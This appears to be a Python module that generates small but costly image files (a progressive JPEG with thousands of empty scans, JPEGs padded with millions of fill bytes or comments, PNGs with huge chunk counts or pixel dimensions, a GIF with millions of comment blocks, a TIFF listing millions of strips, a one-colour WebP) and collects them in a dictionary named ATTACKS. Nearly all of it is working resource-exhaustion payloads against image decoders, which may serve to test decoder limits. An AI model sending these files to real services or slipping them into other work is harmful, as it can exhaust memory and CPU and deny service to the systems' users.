"""Small but expensive files: each makes a decoder use far more time or memory than its size suggests."""

import io
import struct
import zlib
from collections.abc import Callable
from typing import Final

from PIL import Image


def jpeg_of_scans(scans: int = 4000, side: int = 7000) -> bytes:
    """Return a progressive JPEG (ITU-T T.81, annex G) with many scans that cover all blocks but contain no data."""
    blocks = (-(-side // 8)) ** 2
    frame = _segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\x00")
    zeros = _segment(0xC4, b"\x00" + _one_code(0))  # DC: a difference of no bits
    runs = _segment(0xC4, b"\x10" + _one_code(0xE0))  # AC: an end of band for 2^14 blocks and 14 bits more
    first = _segment(0xDA, b"\x01\x01\x00\x00\x00\x00") + bytes(blocks // 8 + 1)
    codes = ("0" + "1" * 14) * -(-blocks // (2**15 - 1))
    codes += "0" * (-len(codes) % 8)
    again = _segment(0xDA, b"\x01\x01\x00\x01\x3f\x00") + _stuffed(int(codes, 2).to_bytes(len(codes) // 8, "big"))
    head = b"\xff\xd8" + _segment(0xDB, b"\x00" + b"\x01" * 64) + frame + zeros + runs
    return head + first + again * scans + b"\xff\xd9"


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def _one_code(symbol: int) -> bytes:
    return b"\x01" + bytes(15) + bytes([symbol])


def _stuffed(scan: bytes) -> bytes:
    return scan.replace(b"\xff", b"\xff\x00")


SMALL_JPEG: Final = jpeg_of_scans(0, 64)


def jpeg_of_fill_bytes(count: int = 19_000_000) -> bytes:
    """Return a JPEG with fill bytes, any number of which may precede a marker."""
    return SMALL_JPEG[:2] + b"\xff" * count + SMALL_JPEG[2:]


def jpeg_of_comments(count: int = 4_700_000) -> bytes:
    """Return a JPEG with empty comments."""
    return SMALL_JPEG[:2] + _segment(0xFE, b"") * count + SMALL_JPEG[2:]


def png_of_chunks(count: int = 1_600_000) -> bytes:
    """Return a PNG with unknown chunks."""
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0))
    body = png_chunk(b"IDAT", zlib.compress(bytes(64 * 65))) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + header + png_chunk(b"abCd", b"") * count + body


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def gif_of_comments(count: int = 9_000_000) -> bytes:
    """Return a GIF with a comment in one-letter blocks."""
    buffer = io.BytesIO()
    Image.new("P", (64, 64)).save(buffer, "GIF")
    picture = buffer.getvalue()
    start = picture.index(b"\x2c" + bytes(4) + struct.pack("<HH", 64, 64))  # the image descriptor
    return picture[:start] + b"!\xfe" + b"\x01a" * count + b"\x00" + picture[start:]


def tiff_of_strips(count: int = 4_000_000, side: int = 64) -> bytes:
    """Return a small TIFF that lists millions of strips (TIFF 6.0, section 3)."""
    return _tiff({256: (3, (side,)), 257: (3, (side,)), 259: (3, (1,)), 262: (3, (1,)), 278: (3, (1,))}, count)


def _tiff(tags: dict[int, tuple[int, tuple[int, ...]]], strips: int) -> bytes:
    directory = 8
    data = directory + 2 + 12 * (len(tags) + 2) + 4
    entries = b""
    offsets = struct.pack("<HHII", 273, 4, strips, data)
    for tag, (kind, (value,)) in sorted(tags.items()):
        if tag > 273 and offsets:
            entries, offsets = entries + offsets, b""
        entries += struct.pack("<HHIHH", tag, kind, 1, value, 0)
    entries += offsets + struct.pack("<HHIHH", 279, 3, 1, 64, 0)
    head = b"II*\x00" + struct.pack("<I", directory) + struct.pack("<H", len(tags) + 2)
    return head + entries + bytes(4) + struct.pack("<I", 8) * strips


def webp_of_one_colour(side: int = 7000) -> bytes:
    """Return a lossless WebP of one colour, with zero bits per pixel (RFC 9649)."""
    size = (side - 1) | (side - 1) << 14
    codes = sum(0b0001 << 3 + 4 * number for number in range(5))  # five codes with one symbol each
    body = b"\x2f" + struct.pack("<I", size) + codes.to_bytes(3, "little")
    chunk = b"VP8L" + struct.pack("<I", len(body)) + body
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def png_of_one_colour(side: int = 7000, colour: int = 6) -> bytes:
    """Return a PNG with the maximum number of pixels in a few kilobytes."""
    row = bytes(1 + side * {0: 1, 2: 3, 6: 4}[colour])
    squeeze = zlib.compressobj(9)
    body = b"".join(squeeze.compress(row) for _ in range(side)) + squeeze.flush()
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")


ATTACKS: Final[dict[str, Callable[[], bytes]]] = {
    "jpeg of 4000 scans": jpeg_of_scans,
    "jpeg of fill bytes": jpeg_of_fill_bytes,
    "jpeg of comments": jpeg_of_comments,
    "png of chunks": png_of_chunks,
    "gif of comments": gif_of_comments,
    "tiff of strips": tiff_of_strips,
    "webp of one colour": webp_of_one_colour,
}
